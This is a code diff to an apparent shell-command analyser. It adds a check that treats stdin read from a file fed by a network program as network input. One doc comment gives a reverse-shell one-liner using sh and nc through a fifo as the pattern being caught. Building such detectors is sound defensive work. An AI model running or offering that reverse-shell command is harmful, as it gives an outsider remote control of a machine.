@@ -31,7 +31,7 @@ export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: No
       return ops.payload(w.value ?? '', `${name} ${r.op}`, r.span, { ...inv, redirects: rest }, st, true);
     }
     if (r.op === '<' || r.op === '<>') {
-      if (ops.networkWord(r.target, ex)) return ops.opaque(inv, carrier, 'network', st, extra);
+      if (ops.networkWord(r.target, ex) || fedByNetwork(r.target, ex, st, ops)) return ops.opaque(inv, carrier, 'network', st, extra);
       const text = procsubOutput(r.target, ex);
       if (text !== null) {
         if (language) return ops.opaque(inv, carrier, 'language', st, { language, payload: text });
@@ -57,6 +57,20 @@ export function shellStdin(inv: Invocation, name: string, ex: Extraction, st: No
 }
 
 /** The exact text `<(cmd)` reads as, when cmd is one print-only command with static words. */
+/** A file (a fifo, say) that a network program of the same source writes into, before or after:
+ *  `sh -i < f | nc host 9 > f` is a reverse shell. */
+function fedByNetwork(w: Word, ex: Extraction, st: NormState, ops: Ops): boolean {
+  if (!w.static) return false;
+  const abs = (p: string) => (p.startsWith('/') ? normalizePath(p) : normalizePath(st.cwd + '/' + p));
+  const target = abs(w.value ?? '');
+  for (const c of ex.commands) {
+    for (const r of c.redirects) {
+      if ((r.op === '>' || r.op === '>>' || r.op === '>|' || r.op === '<>') && (r.fd === null || r.fd === 1) && r.target.static && abs(r.target.value ?? '') === target && ops.networkOutput(c, ex)) return true;
+    }
+  }
+  return false;
+}
+
 /** The static text on an invocation's stdin (here-string, heredoc, `< <(…)`, a pipe of known text), or null. */
 export function stdinText(inv: Invocation, ex: Extraction): string | null {
   for (let i = inv.redirects.length - 1; i >= 0; i--) {
